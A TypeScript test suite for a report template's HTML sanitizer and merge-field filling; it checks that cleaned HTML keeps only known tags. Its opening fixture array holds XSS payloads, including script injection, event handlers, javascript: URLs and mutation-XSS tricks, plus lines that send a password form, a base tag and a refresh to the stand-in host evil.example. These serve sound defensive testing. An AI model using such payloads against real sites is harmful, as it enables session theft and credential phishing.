import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import {
  fieldFaults,
  fillBlocks,
  itemFields,
  reportFields,
  type FieldValues,
  type ReportField,
} from 'contract/templates/merge-fields'
import { mergeFieldValues } from 'provider/modules/templates/fill'
import { cleanHtml, readBlocks, shownHtml } from 'provider/records/template-html'
import { aReport } from 'tests/support/files/reports'

const hostile = [
  '<script>alert(1)</script><p>Hi</p>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" style="background:url(javascript:alert(1))">Hi</p>',
  '<a href="javascript:alert(1)">Hi</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<svg><script>alert(1)</script><animate onbegin=alert(1)></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<style>@import url(//evil.example)</style><form action=//evil.example><input name=password></form>',
  '<base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//evil.example>',
  '<table background="//evil.example"><tr><td><object data="//evil.example"></object></td></tr></table>',
  '<!--><img src=x onerror=alert(1)>--><p>Hi</p>',
  '<p>\u0000<\u0000script>alert(1)</script></p>',
  '<template><img src=x onerror=alert(1)></template>',
]

/** Tags that our HTML may contain, without attributes other than the styles. */
const lawful = /<\/?(?:h[123]|p|ul|ol|li|table|tbody|tr|th|td|strong|em|u|br)(?: style="[\w:;#. -]+")?>/g
const strayIn = (html: string) => html.replace(lawful, '').match(/[<>]/g) ?? []

describe('hostile HTML', () => {
  it.each(hostile)('%s keeps no active content', (html) => {
    for (const made of [cleanHtml(html), shownHtml(readBlocks(html))]) {
      expect(strayIn(made)).toEqual([])
      expect(made).not.toMatch(/evil\.example|javascript:|onerror|onclick/)
    }
  })

  it('of any kind becomes known tags alone, with the same result when repeated', () => {
    const piece = fc.oneof(
      fc.constantFrom(...hostile),
      fc.string(),
      fc.constantFrom('<p>', '</p>', '<td>', '<li>', '<b', '&#60;'),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const once = cleanHtml(pieces.join(''))
        expect(strayIn(once)).toEqual([])
        expect(cleanHtml(once)).toBe(once)
      }),
    )
  })

  it('in a field’s value is text', () => {
    const blocks = fillBlocks(
      readBlocks('<p>{{address}}</p>'),
      values({ address: '<img src=x onerror=alert(1)>{{loanNumber}}' }),
    )
    expect(shownHtml(blocks)).toContain('&#60;img src=x onerror=alert(1)&#62;{{loanNumber}}')
    expect(strayIn(shownHtml(blocks))).toEqual([])
  })
})

const values = (given: Partial<Record<ReportField, string>> = {}): FieldValues => ({
  report: {
    ...(Object.fromEntries(Object.keys(reportFields).map((name) => [name, name])) as Record<ReportField, string>),
    ...given,
  },
  items: ['Footings', 'Roof'].map((title) => ({
    'item.code': '05',
    'item.title': title,
    'item.budget': '$1',
    'item.previous': '–',
    'item.progress': '50.0%',
    'item.inPlace': '$0',
    'item.images': '2',
  })),
})

describe('a template', () => {
  it('keeps headings, lists, tables and three styles', () => {
    const html =
      '<h2>Of <strong>this</strong></h2><p>One <em>two</em> <u>three</u><br>four</p><ol><li>a</li><li>b</li></ol><table><tbody><tr><th>A</th></tr><tr><td>1</td></tr></tbody></table>'
    expect(cleanHtml(html)).toBe(html)
  })

  it('parses nested editor HTML: paragraphs in items and cells, and text outside', () => {
    expect(cleanHtml('Loose<ul><li><p>a</p></li></ul><table><tr><td><p>1</p><p>2</p></td></tr></table>')).toBe(
      '<p>Loose</p><ul><li>a</li></ul><table><tbody><tr><td>1 2</td></tr></tbody></table>',
    )
  })

  it('repeats a row with item fields for each item, and no other', () => {
    const html =
      '<table><tr><th>Item</th></tr><tr><td>{{item.title}} of {{ address }}</td></tr><tr><td>{{progress}}</td></tr></table>'
    const [table] = fillBlocks(readBlocks(html), values({ address: '1 Oak' }))
    const rows =
      table?.kind === 'table'
        ? table.rows.map(({ cells }) =>
            cells
              .flat()
              .map(({ text }) => text)
              .join(),
          )
        : []
    expect(rows).toEqual(['Item', 'Footings of 1 Oak', 'Roof of 1 Oak', 'progress'])
  })

  it('shows a dash for an item’s field outside a table, in templates saved before it was refused', () => {
    expect(shownHtml(fillBlocks(readBlocks('<h3>[{{item.title}}]</h3>'), values()))).toContain('[–]')
  })

  it('joins a field that formatting split, in the style of its beginning', () => {
    const cut = '<p>Of <strong>{{loan</strong><em>Num</em>ber}}, {<u>{address}</u>}<em>!</em></p>'
    const whole = '<p>Of <strong>{{loanNumber}}</strong>, {{address}}<em>!</em></p>'
    expect(cleanHtml(cut)).toBe(whole)
    expect(fieldFaults(readBlocks(cut))).toEqual([])
    const row = '<table><tr><td>{{item.<b>title</b>}}</td></tr></table>'
    const [table] = fillBlocks(readBlocks(row), values())
    expect(table?.kind === 'table' && table.rows.map(({ cells }) => cells)).toEqual([
      [[{ text: 'Footings' }]],
      [[{ text: 'Roof' }]],
    ])
  })

  it('is filled however its fields are split', () => {
    const names = Object.keys({ ...reportFields, ...itemFields })
    const cutter = fc.tuple(fc.constantFrom(...names), fc.array(fc.constantFrom('b', 'i', 'u'), { minLength: 1 }))
    fc.assert(
      fc.property(cutter, fc.nat(), ([name, styles], seed) => {
        const field = `{{${name}}}`
        const at = styles.map((_, index) => (seed * (index + 7)) % field.length).sort((one, other) => one - other)
        const pieces = [0, ...at].map((from, index) => field.slice(from, at[index] ?? field.length))
        const html = pieces.map((piece, index) =>
          index ? `<${styles[index - 1]}>${piece}</${styles[index - 1]}>` : piece,
        )
        const blocks = fillBlocks(readBlocks(`<table><tr><td>a ${html.join('')} z</td></tr></table>`), values())
        expect(shownHtml(blocks)).not.toMatch(/[{}]/)
      }),
    )
  })

  it('lists unknown fields, each once', () => {
    const faultsOf = (html: string) => fieldFaults(readBlocks(html)).map(({ kind, name }) => `${kind}: ${name}`)
    expect(faultsOf('<p>{{address}} {{ nobody }} {{constructor}} {{loan number}} {{nobody}}</p>')).toEqual([
      'unknown: nobody',
      'unknown: constructor',
      'unknown: loan number',
    ])
    const outside = ['<p>{{item.title}}</p>', '<h2>{{item.title}}</h2>', '<ul><li>{{item.<b>title</b>}}</li></ul>']
    for (const html of outside) expect(faultsOf(html)).toEqual(['outsideRow: item.title'])
    expect(faultsOf('<table><tr><td>{{item.title}}</td></tr></table>')).toEqual([])
    expect(faultsOf('<table><tr><td>{{item.</td><td>title}}</td></tr></table>')).toEqual([
      'open: {{item.',
      'open: title}}',
    ])
    expect(faultsOf('<p>a {b} {{{address}}} }</p>')).toEqual([])
  })
})

it('reports that there is no lender', () => {
  expect(mergeFieldValues(aReport(0)).report.lenderNames).toBe('Cedar Valley Bank')
  expect(mergeFieldValues(aReport(0, { lenderNames: [] })).report.lenderNames).toBe('none')
})

it('a mail right-aligns figures and headings of a table; the stored HTML has no styles', () => {
  const table =
    '<table><tbody><tr><th>Item</th><th>Budget</th></tr><tr><td>Roof</td><td>$7,550</td></tr></tbody></table>'
  expect(cleanHtml(table)).toBe(table)
  const shown = shownHtml(readBlocks(table))
  expect(shown.match(/text-align:right">[^<]+/g)).toEqual(['text-align:right">Budget', 'text-align:right">$7,550'])
})
